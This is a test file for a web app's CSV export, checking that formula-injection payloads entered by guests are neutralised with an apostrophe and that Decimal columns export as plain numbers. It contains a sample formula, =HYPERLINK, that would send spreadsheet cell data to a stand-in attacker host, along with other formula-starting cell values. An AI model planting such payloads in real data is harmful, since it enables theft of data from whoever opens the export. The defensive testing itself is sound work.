// Safe CSV exports (issue 13, item 5): a text a guest typed into the public registration cannot run
// as a formula in the operator's spreadsheet, and Decimal columns are plain numbers.
import { beforeAll, describe, expect, it } from "vitest";
import { GET as csv } from "@/app/api/[resource]/listCSV/route";
import { POST as register } from "@/app/api/auth/register/route";
import { db } from "@/lib/core/db";
import { agencyResource } from "@/lib/domain/crm/agency-resource";
import { customerResource } from "@/lib/domain/crm/customer-resource";
import { Decimal } from "@/lib/core/money";
import { csvField } from "@/lib/resources/csv";
import { seedAgency, seedCustomer, seedUser } from "@/prisma/seed/factories";
import { call, tokenFor } from "../helpers/http";

let admin: string;
beforeAll(async () => {
  admin = await tokenFor((await seedUser(db(), { scopes: ["admin"] })).id);
});

/** The CSV's rows as cells (RFC 4180 quoting undone), split on `sep` as a spreadsheet set to it would. */
function parse(text: string, sep = ","): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && text[i + 1] === "\n" && (quoted || sep !== "\r")) {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

const exportOf = async (resource: string, query: Record<string, string> = {}) =>
  parse((await call(csv, { token: admin, params: { resource }, query })).text);

describe("CSV exports", () => {
  it("neutralise a formula a guest registered as a first name", async () => {
    const res = await call(register, {
      method: "POST",
      body: {
        userType: "customer",
        firstName: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        lastName: "Formula",
        email: "formula@example.test",
        password: "secret1",
      },
    });
    expect(res.status).toBe(201);
    const rows = await exportOf("customers", { search: "formula" });
    const first = rows[1].find((c) => c.includes("HYPERLINK"));
    expect(first).toBe(`'=HYPERLINK("https://evil.example/?d="&A1,"Click")`);
  });

  it("neutralise every cell that starts with =, +, -, @, a tab or a carriage return", async () => {
    const starts = ["=1+2", "+49 30 1234", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];
    for (const [i, city] of starts.entries()) await seedCustomer(db(), { lastName: `Cell${i}`, city });
    const text = (await call(csv, { token: admin, params: { resource: "customers" }, query: { search: "cell" } })).text;
    for (const city of starts) expect(text).toContain(csvField(city));
    for (const city of starts) expect(csvField(city).replace(/^"/, "")).toMatch(/^'/);
    expect(csvField("Berlin")).toBe("Berlin");
    expect(csvField("a, b")).toBe('"a, b"');
  });

  it("quote and neutralise a formula after a separator a spreadsheet may split on (x;=1+1 for German Excel)", async () => {
    const cities = ["x;=1+1", "Mitte\t@SUM(A1)", "a, -2+3", 'b;"=HYPERLINK(""x"")', "c\n+1", "d; =1"];
    for (const [i, city] of cities.entries()) await seedCustomer(db(), { lastName: `Split${i}`, city });
    const text = (await call(csv, { token: admin, params: { resource: "customers" }, query: { search: "split" } }))
      .text;
    const col = customerResource.csv.findIndex((c) => c.key === "city");
    // read as RFC 4180: one cell each, the dangerous parts behind an apostrophe, the rest as typed
    const read = parse(text)
      .slice(1)
      .map((r) => r[col]);
    expect(read.sort()).toEqual(
      ["x;'=1+1", "Mitte\t'@SUM(A1)", "a,' -2+3", `b;'"=HYPERLINK(""x"")`, "c\n'+1", "d;' =1"].sort(),
    );
    // every cell holding a separator is quoted
    for (const city of cities) expect(csvField(city)).toMatch(/^".*"$/s);
    expect(csvField("a;b")).toBe('"a;b"');
    expect(csvField("a\tb")).toBe('"a\tb"');
    // split as a spreadsheet set to ; or a tab splits it (quotes read or not): no part runs as a formula
    const rows = text.split("\r\n").filter((l) => /Split\d/.test(l));
    expect(rows).toHaveLength(cities.length);
    for (const sep of [";", "\t", ","])
      for (const line of rows) {
        const parts = [...parse(`${line}\r\n`, sep)[0], ...line.split(sep)];
        for (const part of parts)
          expect(part, `${JSON.stringify(sep)}: ${JSON.stringify(part)}`).not.toMatch(/^[\s"]*[=+\-@]/);
      }
  });

  it("write Decimal columns as plain numbers, negative numbers unchanged", async () => {
    await seedAgency(db(), { name: "Decimal Travel", commissionPercent: "12.5" });
    await seedAgency(db(), { name: "Zero Travel" });
    const rows = await exportOf("agencies", { search: "travel" });
    const col = agencyResource.csv.findIndex((c) => c.key === "commissionPercent");
    const values = rows.slice(1).map((r) => r[col]);
    expect(values.sort()).toEqual(["0", "12.5"]);
    expect(csvField(new Decimal("-12.50"))).toBe("-12.5");
    expect(csvField(new Decimal("0.0000001"))).toBe("0.0000001");
    expect(csvField(-3)).toBe("-3");
  });
});
